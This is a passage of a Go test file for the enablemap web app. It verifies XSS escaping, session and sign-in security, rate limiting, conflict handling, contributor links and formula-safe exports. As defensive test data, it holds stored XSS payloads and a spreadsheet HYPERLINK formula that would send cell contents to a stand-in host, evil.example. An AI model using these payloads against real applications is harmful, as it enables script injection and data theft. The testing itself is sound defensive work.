package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/enablemap/enablemap/internal/enablemap"
	"github.com/enablemap/enablemap/internal/service"
	"github.com/enablemap/enablemap/internal/store"
	"github.com/xuri/excelize/v2"
)

// xss is stored in every text field; it must come back as text.
const xss = `<script>alert("x")</script><img src=x onerror=alert(1)>`

// Stored script in every text a user can type is shown as text on every
// page that shows it.
func TestStoredXSSIsEscaped(t *testing.T) {
	e := newTestEnv(t)
	ctx := e.asOwner(context.Background())
	acct := e.srv.acct
	p, err := e.svc.CreateProject(ctx, service.NewProject{Name: "P " + xss, Description: "D " + xss,
		SalesStages: []string{"Lead " + xss, "Won " + xss}, BuyingStages: []string{"Look " + xss, "Buy " + xss}})
	if err != nil {
		t.Fatal(err)
	}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	_, rs, err := e.svc.SaveInterview(ctx, p.ID, enablemap.Interview{ID: "I1", Interviewee: "N " + xss, Role: "R " + xss, Region: "G " + xss,
		Interviewer: "W " + xss, Date: "2025-01-02"}, []enablemap.Response{
		{FromStage: p.SalesStages[0], ToStage: p.SalesStages[1], Activity: "send the case study " + xss, Goal: "goal " + xss, Notes: "note " + xss},
		{FromStage: p.SalesStages[0], ToStage: p.SalesStages[1], Activity: "I wish marketing made slides " + xss},
	})
	must(err)
	must(e.svc.SaveGlossaryTerm(ctx, p.ID, enablemap.GlossaryTerm{Term: "T" + xss, Meaning: "M " + xss}))
	must(e.svc.SaveMaterial(ctx, p.ID, enablemap.Material{ID: "M1", Title: "Case study " + xss, Type: "Case study " + xss,
		Description: "desc " + xss, URL: "javascript:alert(1)", Owner: "O " + xss, Updated: "2024", Tags: []string{"tag " + xss}}))
	must(e.svc.SaveMaterial(ctx, p.ID, enablemap.Material{ID: "M2", Title: "Logo " + xss}))
	a, _, err := e.svc.Analyze(ctx, p.ID)
	must(err)
	act := a.Activities[0]
	_, err = e.svc.Decide(ctx, p.ID, enablemap.Decision{Kind: enablemap.Rename, ResponseID: act.ID, Text: "Name " + xss})
	must(err)
	_, err = e.svc.Decide(ctx, p.ID, enablemap.Decision{Kind: enablemap.SetAside, MaterialID: "M2", Reason: "why " + xss})
	must(err)
	item := enablemap.RoadmapItem{ResponseID: rs[0].ID, Kind: "K " + xss, Title: "Title " + xss, Owner: "Own " + xss}
	must(e.svc.SaveRoadmapItem(ctx, p.ID, &item))
	must(acct.CreateLink(context.Background(), &enablemap.ContributorLink{ProjectID: p.ID, Hash: "h", Label: "L " + xss, CreatedBy: "C " + xss,
		CreatedAt: time.Now(), ExpiresAt: time.Now().Add(time.Hour)}))
	must(acct.CreateAPIToken(context.Background(), &enablemap.APIToken{TeamID: e.team.ID, Name: "Tok " + xss, Hash: "th", Role: "viewer", CreatedBy: "C " + xss}))
	addMember(t, acct, "x@example.com", "viewer", e.team.ID)
	u := enablemap.User{Email: "y@example.com", Name: "User " + xss, PasswordHash: "h"}
	must(acct.CreateUser(context.Background(), &u))
	must(acct.SetMember(context.Background(), e.team.ID, u.ID, "editor"))

	vals := map[string]string{"id": fmt.Sprint(p.ID), "iid": "I1", "aid": act.ID, "$": "", "file": "report.md"}
	escaped := 0
	for _, pattern := range e.srv.Patterns() {
		method, path, ok := strings.Cut(pattern, " ")
		// JSON answers are not pages: a browser does not run them (they
		// are sent as application/json with nosniff).
		if !ok || method != "GET" || strings.Contains(path, "{token}") || strings.Contains(path, "{hash}") || strings.Contains(path, "/export/") ||
			strings.HasPrefix(path, "/api/") || path == "/login" || path == "/setup" {
			continue
		}
		path = wildcard.ReplaceAllStringFunc(path, func(w string) string { return vals[w[1:len(w)-1]] })
		t.Run(path, func(t *testing.T) {
			rec := e.do("GET", path, nil)
			body := rec.Body.String()
			if rec.Code != 200 {
				t.Fatalf("got %d", rec.Code)
			}
			for _, raw := range []string{`<script>alert`, `<img src=x`, `href="javascript:`} {
				if strings.Contains(body, raw) {
					i := strings.Index(body, raw)
					t.Fatalf("the page holds %q unescaped: ...%s...", raw, body[max(0, i-80):min(len(body), i+80)])
				}
			}
			if strings.Contains(body, "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") {
				escaped++
			}
		})
	}
	if escaped < 10 {
		t.Fatalf("only %d pages show the stored text (escaped); the test did not reach the fields", escaped)
	}
}

// Two people open the roll-up; the second to rename the same activity is
// refused with the first one's name, and nothing is lost.
func TestConflictingDecisions(t *testing.T) {
	ae := newAccessEnv(t)
	a, _ := ae.analysis(t)
	act := a.Activities[0]
	p := fmt.Sprintf("/projects/%d", ae.demo.ID)
	baseOfPage := func(who string) string {
		req := httptest.NewRequest("GET", p+"/rollup", nil)
		ae.callers[who].authorize(req)
		rec := httptest.NewRecorder()
		ae.srv.ServeHTTP(rec, req)
		m := regexp.MustCompile(`name="base_seq" value="(\d+)"`).FindStringSubmatch(rec.Body.String())
		if m == nil {
			t.Fatalf("the roll-up page has no base_seq for %s", who)
		}
		return m[1]
	}
	rename := func(who, base, name string) *httptest.ResponseRecorder {
		f := url.Values{"kind": {"rename"}, "activity": {act.ID}, "name": {name}, "base_seq": {base}, "back": {p + "/rollup"}, "target": {"act-" + act.ID}}
		req := httptest.NewRequest("POST", p+"/decisions", strings.NewReader(f.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		ae.callers[who].authorize(req)
		rec := httptest.NewRecorder()
		ae.srv.ServeHTTP(rec, req)
		return rec
	}
	ownerBase, editorBase := baseOfPage("owner"), baseOfPage("editor")
	if first := rename("owner", ownerBase, "Owner's name"); first.Code != http.StatusSeeOther {
		t.Fatalf("first save: got %d %s", first.Code, excerpt(first.Body.String()))
	}
	second := rename("editor", editorBase, "Editor's name")
	body := html.UnescapeString(second.Body.String())
	if second.Code != http.StatusConflict || !strings.Contains(body, "Owner owner@example.com") || !strings.Contains(body, "changed this activity meanwhile") {
		t.Fatalf("second save: got %d %s, want 409 naming the owner", second.Code, excerpt(body))
	}
	a2, _ := ae.analysis(t)
	for _, x := range a2.Activities {
		if x.ID == act.ID && x.Name != "Owner's name" {
			t.Fatalf("the activity is named %q, want the first save kept", x.Name)
		}
	}
	// With the page reloaded the editor may decide again.
	if third := rename("editor", baseOfPage("editor"), "Editor's name"); third.Code != http.StatusSeeOther {
		t.Fatalf("save after reload: got %d", third.Code)
	}
	// A road-map item edited by both from the same version: the second is
	// refused and the first edit stays.
	_, ws := ae.analysis(t)
	it := ws.Roadmap[0]
	saveItem := func(who, title string) *httptest.ResponseRecorder {
		f := url.Values{"item": {fmt.Sprint(it.ID)}, "version": {fmt.Sprint(it.Version)}, "activity": {it.ResponseID}, "kind": {it.Kind},
			"title": {title}, "status": {"in_progress"}, "back": {p + "/roadmap"}, "target": {"item-" + fmt.Sprint(it.ID)}}
		req := httptest.NewRequest("POST", p+"/roadmap", strings.NewReader(f.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		ae.callers[who].authorize(req)
		rec := httptest.NewRecorder()
		ae.srv.ServeHTTP(rec, req)
		return rec
	}
	if rec := saveItem("owner", "Owner's title"); rec.Code != http.StatusSeeOther {
		t.Fatalf("first road-map save: got %d", rec.Code)
	}
	if rec := saveItem("editor", "Editor's title"); rec.Code != http.StatusConflict {
		t.Fatalf("second road-map save from the same version: got %d, want 409", rec.Code)
	}
	if _, ws := ae.analysis(t); ws.Roadmap[0].Title != "Owner's title" {
		t.Fatalf("road-map item title = %q, want the first save kept", ws.Roadmap[0].Title)
	}

	// The API refuses the same way.
	req := httptest.NewRequest("POST", fmt.Sprintf("/api/v1/projects/%d/decisions", ae.demo.ID),
		strings.NewReader(fmt.Sprintf(`{"kind":"rename","activity":%q,"name":"API name","base_seq":%s}`, act.ID, ownerBase)))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer "+ae.tokens["editor"])
	rec := httptest.NewRecorder()
	ae.srv.ServeHTTP(rec, req)
	if rec.Code != http.StatusConflict || !strings.Contains(rec.Body.String(), "base_seq") {
		t.Fatalf("API decision on a stale base: got %d %s", rec.Code, rec.Body)
	}
}

// A contributor link records a rep's own interview and nothing else;
// revoked, expired and unknown links open nothing.
func TestContributorLinks(t *testing.T) {
	now := time.Now()
	clock := func() time.Time { return now }
	e := newTestEnv(t)
	e.srv.sec.Now = func() time.Time { return clock() }
	p := fmt.Sprintf("/projects/%d", e.demo.ID)

	rec := e.do("POST", p+"/links", url.Values{"label": {"EMEA AEs"}, "days": {"3"}})
	m := regexp.MustCompile(`http://[^/]+(/c/emc_[A-Za-z0-9_-]{43})`).FindStringSubmatch(rec.Body.String())
	if rec.Code != 200 || m == nil {
		t.Fatalf("making a link: got %d without the address: %s", rec.Code, excerpt(rec.Body.String()))
	}
	link := m[1]
	anon := func(method, path string, form url.Values) *httptest.ResponseRecorder {
		var req *http.Request
		if form != nil {
			req = httptest.NewRequest(method, path, strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		} else {
			req = httptest.NewRequest(method, path, nil)
		}
		rec := httptest.NewRecorder()
		e.srv.ServeHTTP(rec, req)
		return rec
	}

	page := anon("GET", link, nil)
	if page.Code != 200 || page.Header().Get("Referrer-Policy") != "no-referrer" {
		t.Fatalf("open the link: got %d, Referrer-Policy %q", page.Code, page.Header().Get("Referrer-Policy"))
	}
	ws, err := e.svc.Workspace(context.Background(), e.demo.ID)
	if err != nil {
		t.Fatal(err)
	}
	body := html.UnescapeString(page.Body.String())
	for _, in := range ws.Interviews[:3] {
		if strings.Contains(body, in.Interviewee) {
			t.Fatalf("the link page shows another rep, %q", in.Interviewee)
		}
	}
	for _, r := range ws.Responses[:10] {
		if strings.Contains(body, r.Activity) {
			t.Fatalf("the link page shows another rep's answer %q", r.Activity)
		}
	}
	if !strings.Contains(body, "What five activities do you have to do to get a buyer from") {
		t.Fatal("the link page lacks the guide's question")
	}
	// The link opens no other page and no API.
	for _, path := range []string{p + "/interviews", "/api/v1/projects"} {
		if rec := anon("GET", path, nil); rec.Code != http.StatusSeeOther && rec.Code != http.StatusUnauthorized {
			t.Fatalf("GET %s without an account: got %d", path, rec.Code)
		}
	}

	form := url.Values{"interviewee": {"Rita Rep"}, "role": {"AE"}, "region": {"EMEA"},
		"activity_0_0": {"send the agenda before the first call"}, "goal_0_0": {"set expectations"},
		"activity_1_2": {"walk the champion through the business case"}}
	if rec := anon("POST", link, url.Values{"interviewee": {"Nobody"}}); rec.Code != http.StatusUnprocessableEntity {
		t.Fatalf("a contribution without activities: got %d", rec.Code)
	}
	rec = anon("POST", link, form)
	if rec.Code != http.StatusSeeOther || !strings.HasSuffix(rec.Header().Get("Location"), "?thanks=1") {
		t.Fatalf("contribute: got %d to %q: %s", rec.Code, rec.Header().Get("Location"), excerpt(rec.Body.String()))
	}
	if rec := anon("POST", link, form); rec.Code != http.StatusSeeOther {
		t.Fatalf("a second contribution: got %d", rec.Code)
	}
	ws2, err := e.svc.Workspace(context.Background(), e.demo.ID)
	if err != nil {
		t.Fatal(err)
	}
	var fromLink []enablemap.Interview
	for _, in := range ws2.Interviews {
		if in.FromLink {
			fromLink = append(fromLink, in)
		}
	}
	if len(fromLink) != 2 || len(ws2.Interviews) != len(ws.Interviews)+2 || len(ws2.Responses) != len(ws.Responses)+4 {
		t.Fatalf("got %d interviews from the link, %d interviews, %d responses; want 2 new ones, none replaced", len(fromLink), len(ws2.Interviews), len(ws2.Responses))
	}
	if list := e.do("GET", p+"/interviews", nil).Body.String(); !strings.Contains(list, "Rita Rep") || !strings.Contains(list, "from link · to review") {
		t.Fatal("the interview list does not show the contribution as from link, to review")
	}
	testReview(t, e, fromLink)
	ls, err := e.srv.acct.Links(context.Background(), e.demo.ID)
	if err != nil || len(ls) != 1 || ls[0].Uses != 2 {
		t.Fatalf("links = %+v, %v; want one link used twice", ls, err)
	}

	// Expired, then revoked, then unknown.
	clock = func() time.Time { return now.Add(4 * 24 * time.Hour) }
	if rec := anon("GET", link, nil); rec.Code != http.StatusGone {
		t.Fatalf("an expired link: got %d", rec.Code)
	}
	if rec := anon("POST", link, form); rec.Code != http.StatusGone {
		t.Fatalf("posting to an expired link: got %d", rec.Code)
	}
	clock = func() time.Time { return now }
	if rec := e.do("POST", fmt.Sprintf("%s/links/%d/revoke", p, ls[0].ID), url.Values{}); rec.Code != http.StatusSeeOther {
		t.Fatalf("revoke: got %d", rec.Code)
	}
	if rec := anon("GET", link, nil); rec.Code != http.StatusGone {
		t.Fatalf("a revoked link: got %d", rec.Code)
	}
	if rec := anon("GET", "/c/emc_"+strings.Repeat("x", 43), nil); rec.Code != http.StatusNotFound {
		t.Fatalf("an unknown link: got %d", rec.Code)
	}
}

// serveLogin posts the sign-in form from an address.
func serveLogin(srv http.Handler, email, password, addr string) *httptest.ResponseRecorder {
	f := url.Values{"email": {email}, "password": {password}}
	req := httptest.NewRequest("POST", "/login", strings.NewReader(f.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.RemoteAddr = addr + ":1234"
	rec := httptest.NewRecorder()
	srv.ServeHTTP(rec, req)
	return rec
}

func sessionOf(rec *httptest.ResponseRecorder) *http.Cookie {
	for _, c := range rec.Result().Cookies() {
		if c.Name == sessionCookie && c.Value != "" {
			return c
		}
	}
	return nil
}

func TestSignIn(t *testing.T) {
	now := time.Now()
	clock := func() time.Time { return now }
	e := newTestEnv(t)
	e.srv.sec.Now = func() time.Time { return clock() }
	email := e.sess.user.Email

	rec := serveLogin(e.srv, email, "wrong password", "10.0.0.1")
	if rec.Code != http.StatusUnauthorized || !strings.Contains(rec.Body.String(), "Wrong email or password") {
		t.Fatalf("wrong password: got %d", rec.Code)
	}
	if rec := serveLogin(e.srv, "nobody@example.com", "wrong password", "10.0.0.1"); !strings.Contains(rec.Body.String(), "Wrong email or password") {
		t.Fatal("an unknown email is not answered like a wrong password")
	}
	rec = serveLogin(e.srv, strings.ToUpper(email), testPassword, "10.0.0.1")
	c := sessionOf(rec)
	if rec.Code != http.StatusSeeOther || c == nil || !c.HttpOnly || c.SameSite != http.SameSiteLaxMode || c.Secure {
		t.Fatalf("sign in: got %d, cookie %+v", rec.Code, c)
	}
	get := func(c *http.Cookie) *httptest.ResponseRecorder {
		req := httptest.NewRequest("GET", "/", nil)
		req.AddCookie(c)
		rec := httptest.NewRecorder()
		e.srv.ServeHTTP(rec, req)
		return rec
	}
	if rec := get(c); rec.Code != 200 || !strings.Contains(rec.Body.String(), "Sign out") {
		t.Fatalf("with the session: got %d", rec.Code)
	}
	// Only the hash of the id is stored.
	if _, err := e.srv.acct.SessionByHash(context.Background(), c.Value); err == nil {
		t.Fatal("the session id itself is a key of the sessions table")
	}
	// Idle for longer than the idle timeout: signed out.
	clock = func() time.Time { return now.Add(9 * time.Hour) }
	if rec := get(c); rec.Code != http.StatusSeeOther {
		t.Fatalf("after 9 idle hours: got %d, want a redirect to sign in", rec.Code)
	}
	// Used every few hours, a session still ends 7 days after sign-in.
	clock = func() time.Time { return now }
	c = sessionOf(serveLogin(e.srv, email, testPassword, "10.0.0.1"))
	for h := 4; h < 7*24; h += 4 {
		clock = func() time.Time { return now.Add(time.Duration(h) * time.Hour) }
		if rec := get(c); rec.Code != 200 {
			t.Fatalf("after %d hours of use: got %d", h, rec.Code)
		}
	}
	clock = func() time.Time { return now.Add(7*24*time.Hour + time.Minute) }
	if rec := get(c); rec.Code != http.StatusSeeOther {
		t.Fatalf("after 7 days: got %d", rec.Code)
	}
	clock = func() time.Time { return now }

	// Secure cookies over TLS and behind a trusted proxy.
	req := httptest.NewRequest("POST", "/login", strings.NewReader(url.Values{"email": {email}, "password": {testPassword}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("X-Forwarded-Proto", "https")
	e.srv.sec.TrustProxy = true
	rec = httptest.NewRecorder()
	e.srv.ServeHTTP(rec, req)
	if c := sessionOf(rec); c == nil || !c.Secure {
		t.Fatalf("behind a TLS proxy the cookie is not Secure: %+v", c)
	}
	e.srv.sec.TrustProxy = false

	// Sign out ends the session in the database.
	c = sessionOf(serveLogin(e.srv, email, testPassword, "10.0.0.1"))
	s := &testSession{cookie: c}
	page := get(c).Body.String()
	s.csrf = regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(page)[1]
	req = httptest.NewRequest("POST", "/logout", nil)
	s.authorize(req)
	rec = httptest.NewRecorder()
	e.srv.ServeHTTP(rec, req)
	if rec.Code != http.StatusSeeOther || get(c).Code != http.StatusSeeOther {
		t.Fatalf("sign out: got %d, and the old cookie still works", rec.Code)
	}
}

func TestLoginRateLimit(t *testing.T) {
	now := time.Now()
	e := newTestEnv(t)
	e.srv.sec.Now = func() time.Time { return now }
	email := e.sess.user.Email
	for i := range 5 {
		if rec := serveLogin(e.srv, email, "wrong password", fmt.Sprintf("10.0.1.%d", i)); rec.Code != http.StatusUnauthorized {
			t.Fatalf("failure %d: got %d", i+1, rec.Code)
		}
	}
	rec := serveLogin(e.srv, email, testPassword, "10.0.2.1")
	if rec.Code != http.StatusTooManyRequests || rec.Header().Get("Retry-After") == "" || !strings.Contains(rec.Body.String(), "Too many failed sign-ins for this account") {
		t.Fatalf("sixth try with the right password: got %d, Retry-After %q", rec.Code, rec.Header().Get("Retry-After"))
	}
	if ra := rec.Header().Get("Retry-After"); ra != "900" {
		t.Errorf("Retry-After = %s, want 900 (the window, since all failures were just now)", ra)
	}
	// Another account from the same addresses is not locked.
	other := addMember(t, e.srv.acct, "other@example.com", "viewer", e.team.ID)
	if rec := serveLogin(e.srv, other.Email, testPassword, "10.0.1.1"); rec.Code != http.StatusSeeOther {
		t.Fatalf("another account: got %d", rec.Code)
	}
	// Per address: 20 failures over many accounts lock the address.
	for i := range 20 {
		serveLogin(e.srv, fmt.Sprintf("guess%d@example.com", i), "wrong password", "10.9.9.9")
	}
	if rec := serveLogin(e.srv, other.Email, testPassword, "10.9.9.9"); rec.Code != http.StatusTooManyRequests || !strings.Contains(rec.Body.String(), "from your address") {
		t.Fatalf("after 20 failures from one address: got %d", rec.Code)
	}
	// After the window the account may try again.
	e.srv.sec.Now = func() time.Time { return now.Add(16 * time.Minute) }
	if rec := serveLogin(e.srv, email, testPassword, "10.0.2.1"); rec.Code != http.StatusSeeOther {
		t.Fatalf("after the window: got %d", rec.Code)
	}
}

func TestFirstRunSetup(t *testing.T) {
	srv := newEmptyServer(t)
	for _, path := range []string{"/", "/login", "/projects/1", "/workspace"} {
		req := httptest.NewRequest("GET", path, nil)
		rec := httptest.NewRecorder()
		srv.ServeHTTP(rec, req)
		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/setup" {
			t.Fatalf("GET %s before setup: got %d to %q, want /setup", path, rec.Code, rec.Header().Get("Location"))
		}
	}
	post := func(f url.Values) *httptest.ResponseRecorder {
		req := httptest.NewRequest("POST", "/setup", strings.NewReader(f.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		rec := httptest.NewRecorder()
		srv.ServeHTTP(rec, req)
		return rec
	}
	good := url.Values{"name": {"Ana"}, "email": {"ana@example.com"}, "password": {testPassword}, "password2": {testPassword}, "workspace": {"Marketing"}}
	bad := url.Values{"name": {"Ana"}, "email": {"ana@example.com"}, "password": {"short"}, "password2": {"short"}, "workspace": {"Marketing"}}
	if rec := post(bad); rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), "at least 10") {
		t.Fatalf("a short password: got %d", rec.Code)
	}
	rec := post(good)
	if rec.Code != http.StatusSeeOther || sessionOf(rec) == nil {
		t.Fatalf("setup: got %d", rec.Code)
	}
	// Once done, setup is closed.
	if rec := post(url.Values{"email": {"eve@example.com"}, "password": {testPassword}, "password2": {testPassword}, "workspace": {"Mine"}}); rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/login" {
		t.Fatalf("a second setup: got %d to %q", rec.Code, rec.Header().Get("Location"))
	}
	n, _ := srv.acct.CountUsers(context.Background())
	if n != 1 {
		t.Fatalf("%d users after two setups, want 1", n)
	}
}

// newEmptyServer is a server over a new store without any account.
func newEmptyServer(t *testing.T) *Server {
	t.Helper()
	db, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "empty.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	srv, err := New(service.New(db), testOptions())
	if err != nil {
		t.Fatal(err)
	}
	return srv
}

// The account page changes the password and signs out other sessions.
func TestChangePassword(t *testing.T) {
	e := newTestEnv(t)
	other := newSession(t, e.srv.acct, e.sess.user, e.team.ID)
	f := url.Values{"current": {testPassword}, "password": {"a brand new password"}, "password2": {"a brand new password"}}
	wrong := url.Values{"current": {"nope"}, "password": {"a brand new password"}, "password2": {"a brand new password"}}
	if rec := e.do("POST", "/account/password", wrong); rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), "current password is wrong") {
		t.Fatalf("wrong current password: got %d", rec.Code)
	}
	if rec := e.do("POST", "/account/password", f); rec.Code != http.StatusSeeOther {
		t.Fatalf("change: got %d %s", rec.Code, excerpt(rec.Body.String()))
	}
	req := httptest.NewRequest("GET", "/", nil)
	other.authorize(req)
	rec := httptest.NewRecorder()
	e.srv.ServeHTTP(rec, req)
	if rec.Code != http.StatusSeeOther {
		t.Fatalf("the other session still works after a password change: %d", rec.Code)
	}
	if rec := e.do("GET", "/", nil); rec.Code != 200 {
		t.Fatalf("the session that changed it was signed out: %d", rec.Code)
	}
	if rec := serveLogin(e.srv, e.sess.user.Email, "a brand new password", "10.1.1.1"); rec.Code != http.StatusSeeOther {
		t.Fatalf("sign in with the new password: got %d", rec.Code)
	}
}

// Owners add members (a new account gets a password shown once), change
// roles, make and revoke tokens; all of it lands in the audit log.
func TestWorkspaceAdministration(t *testing.T) {
	e := newTestEnv(t)
	rec := e.do("POST", "/workspace/members", url.Values{"email": {"new@example.com"}, "name": {"New"}, "role": {"viewer"}})
	m := regexp.MustCompile(`<code class="secret">([A-Za-z0-9]{20})</code>`).FindStringSubmatch(rec.Body.String())
	if rec.Code != 200 || m == nil {
		t.Fatalf("add member: got %d without a password shown", rec.Code)
	}
	if rec := serveLogin(e.srv, "new@example.com", m[1], "10.2.2.2"); rec.Code != http.StatusSeeOther {
		t.Fatalf("the new member cannot sign in with the shown password: %d", rec.Code)
	}
	u, _ := e.srv.acct.UserByEmail(context.Background(), "new@example.com")
	if rec := e.do("POST", fmt.Sprintf("/workspace/members/%d/role", u.ID), url.Values{"role": {"editor"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("change role: got %d", rec.Code)
	}
	if rec := e.do("POST", fmt.Sprintf("/workspace/members/%d/role", e.sess.user.ID), url.Values{"role": {"viewer"}, "back": {"/workspace"}}); rec.Code != http.StatusUnprocessableEntity {
		t.Fatalf("demoting the last owner: got %d", rec.Code)
	}
	rec = e.do("POST", "/workspace/tokens", url.Values{"name": {"BI export"}, "role": {"viewer"}})
	tm := regexp.MustCompile(`<code class="secret">(emt_[A-Za-z0-9_-]{43})</code>`).FindStringSubmatch(rec.Body.String())
	if tm == nil {
		t.Fatalf("make a token: got %d without the token shown", rec.Code)
	}
	req := httptest.NewRequest("GET", "/api/v1/audit", nil)
	req.Header.Set("Authorization", "Bearer "+tm[1])
	rec = httptest.NewRecorder()
	e.srv.ServeHTTP(rec, req)
	if rec.Code != http.StatusForbidden {
		t.Fatalf("a viewer token reading the audit log: got %d", rec.Code)
	}
	audit := html.UnescapeString(e.do("GET", "/workspace/audit", nil).Body.String())
	for _, want := range []string{"add member", "change role", "create API token", `{"role":"viewer"}`, `{"role":"editor"}`} {
		if !strings.Contains(audit, want) {
			t.Errorf("the audit log lacks %q", want)
		}
	}
	// Rename, refused when the name is taken.
	if rec := e.do("POST", "/workspace/rename", url.Values{"name": {"Product marketing"}, "back": {"/workspace"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("rename: got %d", rec.Code)
	}
	if _, err := e.srv.acct.CreateTeam(context.Background(), "Taken"); err != nil {
		t.Fatal(err)
	}
	if rec := e.do("POST", "/workspace/rename", url.Values{"name": {"taken"}, "back": {"/workspace"}, "target": {"rename"}}); rec.Code != http.StatusConflict || !strings.Contains(rec.Body.String(), "exists already") {
		t.Fatalf("rename to a taken name: got %d", rec.Code)
	}
	if !strings.Contains(e.do("GET", "/workspace", nil).Body.String(), "Workspace Product marketing") {
		t.Fatal("the workspace page does not show the new name")
	}
	// A second workspace and the switcher.
	if rec := e.do("POST", "/workspace/new", url.Values{"name": {"Field marketing"}, "back": {"/workspace"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("new workspace: got %d", rec.Code)
	}
	home := e.do("GET", "/", nil).Body.String()
	if !strings.Contains(home, `id="ws-switch"`) || strings.Contains(home, html.EscapeString(e.demo.Name)) {
		t.Fatal("in the new workspace the switcher is missing or the demo still shows")
	}
	if rec := e.do("POST", "/account/workspace", url.Values{"team": {fmt.Sprint(e.team.ID)}, "back": {"/"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("switch back: got %d", rec.Code)
	}
	if home := e.do("GET", "/", nil).Body.String(); !strings.Contains(home, html.EscapeString(e.demo.Name)) {
		t.Fatal("after switching back the demo does not show")
	}
}

// Every CSV and XLSX export, from the pages and the API, neutralises text
// that a spreadsheet would run as a formula.
func TestExportsNeutraliseFormulas(t *testing.T) {
	ae := newAccessEnv(t)
	ctx := ae.asOwner(context.Background())
	a, _ := ae.analysis(t)
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	if _, err := ae.svc.Decide(ctx, ae.demo.ID, enablemap.Decision{Kind: enablemap.Rename, ResponseID: a.Activities[0].ID, Text: formula}); err != nil {
		t.Fatal(err)
	}
	p := fmt.Sprintf("/projects/%d", ae.demo.ID)
	api := fmt.Sprintf("/api/v1/projects/%d/report?format=", ae.demo.ID)
	for _, path := range []string{p + "/export/activities.csv", p + "/export/report.xlsx", api + "csv", api + "xlsx"} {
		t.Run(path, func(t *testing.T) {
			req := httptest.NewRequest("GET", path, nil)
			if strings.HasPrefix(path, "/api/") {
				req.Header.Set("Authorization", "Bearer "+ae.tokens["viewer"])
			} else {
				ae.callers["viewer"].authorize(req)
			}
			rec := httptest.NewRecorder()
			ae.srv.ServeHTTP(rec, req)
			if rec.Code != 200 {
				t.Fatalf("got %d", rec.Code)
			}
			var cells []string
			if strings.HasSuffix(path, "csv") {
				rows, err := csv.NewReader(rec.Body).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range rows {
					cells = append(cells, r...)
				}
			} else {
				f, err := excelize.OpenReader(rec.Body)
				if err != nil {
					t.Fatal(err)
				}
				for _, sheet := range f.GetSheetList() {
					rows, err := f.GetRows(sheet)
					if err != nil {
						t.Fatal(err)
					}
					for _, r := range rows {
						cells = append(cells, r...)
					}
				}
			}
			found := false
			for _, c := range cells {
				if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "@") {
					t.Fatalf("cell %q would run as a formula", c)
				}
				if c == "'"+formula {
					found = true
				}
			}
			if !found {
				t.Fatal("the renamed activity is not in the export")
			}
		})
	}
}

// testReview marks interviews from a link reviewed: an editor on the
// interview list and the interview page, a program through the API; a
// viewer is refused on both, and the audit log names who did it.
func testReview(t *testing.T, e *testEnv, fromLink []enablemap.Interview) {
	t.Helper()
	p := fmt.Sprintf("/projects/%d", e.demo.ID)
	first, second := fromLink[0], fromLink[1]
	reviewPath := p + "/interviews/" + first.ID + "/review"

	page := e.do("GET", p+"/interviews/"+first.ID, nil).Body.String()
	if !strings.Contains(page, `action="`+reviewPath+`"`) || !strings.Contains(page, "Mark reviewed") {
		t.Fatalf("the interview page of a contribution offers no review button: %s", excerpt(page))
	}
	viewer := newSession(t, e.srv.acct, addMember(t, e.srv.acct, "vi@example.com", "viewer", e.team.ID), e.team.ID)
	req := httptest.NewRequest("POST", reviewPath, strings.NewReader(url.Values{"reviewed": {"true"}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	viewer.authorize(req)
	rec := httptest.NewRecorder()
	e.srv.ServeHTTP(rec, req)
	if rec.Code != http.StatusForbidden {
		t.Fatalf("a viewer marking an interview reviewed: got %d", rec.Code)
	}

	back := p + "/interviews/" + first.ID
	rec = e.do("POST", reviewPath, url.Values{"reviewed": {"true"}, "back": {back}})
	if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != back {
		t.Fatalf("mark reviewed: got %d to %q", rec.Code, rec.Header().Get("Location"))
	}
	if rec := e.do("POST", reviewPath, url.Values{"reviewed": {"maybe"}}); rec.Code != http.StatusUnprocessableEntity && rec.Code != http.StatusBadRequest {
		t.Fatalf("a review without true or false: got %d", rec.Code)
	}
	list := html.UnescapeString(e.do("GET", p+"/interviews", nil).Body.String())
	if strings.Count(list, "from link · reviewed") != 1 || strings.Count(list, "from link · to review") != 1 || !strings.Contains(list, "Back to review") {
		t.Fatal("the interview list does not show one contribution reviewed and one to review")
	}

	// Through the API: an editor's token may, a viewer's may not.
	api := func(token, id, body string) *httptest.ResponseRecorder {
		req := httptest.NewRequest("POST", fmt.Sprintf("/api/v1/projects/%d/interviews/%s/review", e.demo.ID, id), strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+token)
		rec := httptest.NewRecorder()
		e.srv.ServeHTTP(rec, req)
		return rec
	}
	if rec := api(newToken(t, e.srv.acct, e.team.ID, "viewer"), second.ID, `{"reviewed": true}`); rec.Code != http.StatusForbidden {
		t.Fatalf("a viewer token reviewing: got %d", rec.Code)
	}
